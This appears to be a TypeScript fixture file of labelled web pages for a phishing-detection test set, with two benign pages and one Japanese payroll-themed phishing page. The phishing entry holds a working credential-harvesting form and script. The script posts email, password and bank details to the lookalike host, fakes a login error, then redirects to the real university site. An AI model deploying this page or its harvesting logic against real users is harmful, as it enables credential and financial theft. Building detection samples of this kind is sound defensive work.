import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { doc, img, kitCss, orgPage, orgAssets } from '../parts/zb-kit.js';
import { fileRoute, jsonRoute, pe } from '../parts/e-bin.js';
import { brightwater, kitamura, withHost } from '../parts/zb-orgs.js';

export const entries: Entry[] = [
  {
    id: 'zb-clean-phishing-simulation-landing',
    label: 'clean',
    kind: 'phishing-notice',
    url: 'https://awareness.brightwater-components.de/lp/8c21f0/oops',
    body: orgPage(withHost(brightwater, 'awareness.brightwater-components.de'), 'Das war eine Phishing-Simulation – Brightwater Components', `<div class="card" style="max-width:720px;margin:auto"><h1>&#127907; Das war eine Phishing-Simulation</h1>
<p>Keine Sorge – es ist nichts passiert. Die E-Mail „Ihre Renteninformation 2026 ist verfügbar“ war eine Übung der Informationssicherheit. Es wurden keine Daten übertragen, und Ihr Klick wird nicht an Vorgesetzte gemeldet.</p>
<h2>Woran Sie die E-Mail hätten erkennen können</h2><ol><li><strong>Absender:</strong> „Pensionskasse Mitarbeiterportal“ von einer externen Domain, nicht @brightwater-components.de.</li><li><strong>Zeitdruck:</strong> „Ohne Bestätigung kann die Arbeitgeberzulage nicht weiter gezahlt werden.“</li><li><strong>Link-Ziel:</strong> Beim Darüberfahren zeigte der Link auf eine fremde Adresse.</li><li><strong>Passwortabfrage:</strong> Kein internes Portal fragt nach Ihrem Windows-Passwort auf einer fremden Seite.</li></ol>
<p>Verdächtige E-Mails melden Sie in Outlook über <strong>Melden › Phishing melden</strong>.</p><p><a class="btn" href="https://learn.brightwater-components.de/security-awareness/2026">Kurzes Lernmodul (5 Min.)</a></p>
<p class="muted">Informationssicherheit · Brightwater Components GmbH · informationssicherheit@brightwater-components.de</p></div>`, { lang: 'de', nav: ['Start', 'Lernmodule', 'Melden'] }),
    routes: orgAssets(withHost(brightwater, 'awareness.brightwater-components.de')),
  },
  {
    id: 'zb-clean-microsoft-device-login-page',
    label: 'clean',
    kind: 'brand-login',
    url: 'https://login.microsoftonline.com/halvorsen-logistics.com/oauth2/deviceauth?client-request-id=5d2e8c1a-0b7f-4e93-a611-2c9f0e4d7b18',
    body: doc({
      title: 'Enter code',
      css: `body{margin:0;font-family:"Segoe UI",sans-serif;background:#f2f2f2;min-height:100vh}.b{width:440px;margin:120px auto 0;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}.t{font-size:24px;font-weight:600;margin:16px 0 8px}
input{width:100%;border:0;border-bottom:1px solid #666;padding:6px 0;font-size:15px;margin-top:16px;outline:0}.btn{float:right;background:#0067b8;color:#fff;border:0;padding:6px 36px;margin-top:24px;font-size:15px}`,
      body: `<div class="b"><img src="/shared/1.0/content/images/microsoft_logo_ee5c8d9fb6248c938fd0dc19370e90bd.svg" height="24" alt="Microsoft"><div class="t">Enter code</div><p style="font-size:15px">Enter the code displayed on your app or device.</p>
<form method="post" action="/halvorsen-logistics.com/oauth2/deviceauth"><input name="otc" type="text" placeholder="Code" maxlength="16" autocomplete="off"><input type="hidden" name="flowToken" value="AQABIQEAAABVrSpeuWamRam2jAF1XRQE"><button class="btn">Next</button></form><div style="clear:both"></div>
<p style="font-size:13px;color:#555;margin-top:20px">Only enter a code that you obtained directly from an app or device you trust. Never enter a code someone sent you.</p></div>`,
    }),
    routes: { 'login.microsoftonline.com/shared/1.0/content/images/microsoft_logo_ee5c8d9fb6248c938fd0dc19370e90bd.svg': { status: 200, headers: { 'content-type': 'image/svg+xml' }, body: '<svg xmlns="http://www.w3.org/2000/svg" width="108" height="24"><rect width="10" height="10" fill="#f25022"/><rect x="11" width="10" height="10" fill="#7fba00"/><rect y="11" width="10" height="10" fill="#00a4ef"/><rect x="11" y="11" width="10" height="10" fill="#ffb900"/></svg>' } },
  },
  {
    id: 'zb-phish-nenmatsu-chosei-ja',
    label: 'phishing',
    kind: 'payroll-kit',
    url: 'https://nenmatsu-tetsuzuki.jinji-portal.net/kitamura/login',
    body: doc({
      title: '年末調整手続き – 教職員ポータル',
      lang: 'ja',
      css: kitCss('#00479d', '#eef2f8') + '.box{width:430px}.n{background:#fff6e0;border:1px solid #f0d48a;font-size:13px;padding:10px;margin:10px 0}',
      body: `<div class="box"><img class="logo" src="/kitamura/logo.png" alt=""><h2>令和8年分 年末調整のお知らせ</h2><div class="n">年末調整の申告期限は <b>12月5日（金）</b> です。期限までに手続きが完了していない場合、還付金が支給されない可能性があります。</div>
<p>教職員ポータルにログインし、扶養控除等申告書と口座情報を確認してください。</p>
<form id="frm"><input id="email" type="email" name="mail" placeholder="大学メールアドレス" required><input type="password" name="pass" placeholder="パスワード" required><input type="text" name="bank" placeholder="給与振込口座（支店名・口座番号）"><div class="err" id="err">パスワードが正しくありません。もう一度入力してください。</div><button>ログイン</button></form>
<div class="small">人事課 給与係 ・ 内線 2215</div></div>
<script>
var c=0;document.getElementById('frm').addEventListener('submit',function(e){e.preventDefault();c++;fetch('/kitamura/api/post.php',{method:'POST',body:new FormData(this)}).finally(function(){if(c<2){document.getElementById('err').style.display='block';}else{location.href='https://www.kitamura-tech.ac.jp/';}});});
</script>`,
    }),
    routes: { 'nenmatsu-tetsuzuki.jinji-portal.net/kitamura/logo.png': img(0, 71, 157), 'nenmatsu-tetsuzuki.jinji-portal.net/kitamura/api/post.php': jsonRoute({ ok: 1 }) },
  },
];
